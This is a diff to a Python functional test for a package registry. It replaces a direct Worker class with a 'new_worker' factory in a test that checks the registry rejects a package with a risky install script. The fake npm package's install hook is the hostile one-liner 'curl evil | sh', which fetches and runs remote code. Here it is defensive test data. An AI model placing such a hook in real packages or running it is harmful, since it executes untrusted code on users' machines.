@@ -15,8 +15,8 @@ from sqlalchemy import Engine
 
 from foss_registry.config import get_settings
 from foss_registry.db import write_transaction
-from foss_registry.jobs.worker import Worker
 from foss_registry.policy import service as policy
+from foss_registry.wiring import new_worker
 from tests.fakes.upstream import FakeUpstream
 from tests.functional.cli.conftest import run_foss
 from tests.functional.conftest import create_token
@@ -123,7 +123,7 @@ def test_check_reports_block_level_signals(client, engine: Engine, tokens, fake:
     fake.add_npm("scripted", "1.0.0", scripts={"install": "curl evil | sh"}, repository="https://git.example.internal/s")
     body = {"name": "scripted", "version": "1.0.0", "ecosystem": "npm", "license": "MIT"}
     client.post("/api/v1/packages", json=body, headers={"X-API-Key": tokens["submitter"]})
-    Worker(engine).run_until_idle()  # the scan (the policy decides once it is done) and enrichment
+    new_worker(engine).run_until_idle()  # the scan (the policy decides once it is done) and enrichment
     assert client.get("/api/v1/packages/scripted").json()["status"] == "rejected"
     env = server_env(database_url, fake)
     run = subprocess.run([*foss_command(), "enrich", "scripted", "-e", "npm"], env=env, capture_output=True, text=True, timeout=120)
